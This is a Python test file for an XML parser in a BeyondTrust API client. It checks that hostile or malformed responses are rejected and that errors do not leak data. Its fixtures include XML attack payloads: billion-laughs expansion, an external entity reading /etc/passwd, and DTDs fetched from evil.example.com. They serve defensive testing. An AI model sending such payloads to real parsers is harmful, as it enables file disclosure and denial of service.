"""XML that is not what it should be: hostile, broken, or an error in a good answer."""

import pytest

from agent.errors import TargetError
from agent.targets.beyondtrust.problems import Refused
from agent.targets.beyondtrust.xml import NoXml, error_in, parse, text_of

from .accounts import commands
from .raw_server import raw_server, reply, with_token

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
HOSTILE = {
    "billion laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>'.encode(),
    "external entity": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "external dtd": b'<!DOCTYPE x SYSTEM "https://evil.example.com/x.dtd"><x/>',
    "parameter entity": b'<!DOCTYPE x [<!ENTITY % e SYSTEM "https://evil.example.com/"> %e;]><x/>',
    "plain dtd": b"<!DOCTYPE x><x/>",
    "unknown entity": b"<x>&nbsp;</x>",
    "half": b"<x><y>",
    "nothing": b"",
    "json": b'{"a": 1}',
    "page": b"<html><body><br></body></html>",
    "two roots": b"<a/><b/>",
    "no utf-8": b"<x>\xff\xfe</x>",
    "unknown encoding": b'<?xml version="1.0" encoding="klingon"?><x/>',
    "null": b"<x>\0</x>",
}


@pytest.mark.parametrize("body", HOSTILE.values(), ids=HOSTILE)
async def test_what_is_not_read(body: bytes) -> None:
    with pytest.raises(NoXml):
        parse(body)
    async with raw_server(with_token(lambda _: reply(body))) as server:
        with pytest.raises(TargetError, match="something that is no XML") as caught:
            await commands(server.host, server.ca_file).command("check_health", {}, repeat=True)
        assert "root:" not in str(caught.value)


def test_a_hundred_thousand_levels() -> None:
    deep = b"<a>" * 100_000 + b"</a>" * 100_000
    assert parse(deep).tag == "a"


@pytest.mark.parametrize(
    "namespace",
    ["", ' xmlns="http://www.bomgar.com/namespaces/API/command"', ' xmlns="https://x.beyondtrust.com/y"'],
)
def test_the_namespace_does_not_matter(namespace: str) -> None:
    root = parse(f"<session_key{namespace}><short_key> 1234567 </short_key><a/></session_key>".encode())
    assert root.tag == "session_key"
    assert text_of(root, "short_key") == "1234567"
    assert (text_of(root, "a"), text_of(root, "b")) == ("", "")


@pytest.mark.parametrize(
    ("body", "said"),
    [
        (b"<error>No.</error>", "No."),
        (b'<error xmlns="http://www.bomgar.com/x">No <b>way</b>\n now</error>', "No way now"),
        (b"<response><error>No.</error></response>", "No."),
        (b"<error/>", "error"),
        (b"<session_key><short_key>error</short_key></session_key>", None),
    ],
)
def test_an_error_in_a_good_answer(body: bytes, said: str | None) -> None:
    assert error_in(parse(body)) == said


@pytest.mark.parametrize("status", ["200 OK", "400 Bad Request", "403 Forbidden"])
async def test_it_is_an_error_whatever_the_status(status: str) -> None:
    body = b"<error>Unknown issue.</error>"
    async with raw_server(with_token(lambda _: reply(body, status))) as server:
        with pytest.raises(Refused, match=r'"Unknown issue\.": compare the issue and team'):
            await commands(server.host, server.ca_file).command("generate_session_key", {}, repeat=True)


async def test_an_error_that_repeats_what_was_sent_is_not_told() -> None:
    body = b"<error>The value my salary is only three is too long.</error>"
    async with raw_server(with_token(lambda _: reply(body))) as server:
        with pytest.raises(Refused) as caught:
            await commands(server.host, server.ca_file).command(
                "generate_session_key", {}, private=["Hello, my salary is only three"], repeat=True
            )
    assert "salary" not in str(caught.value)
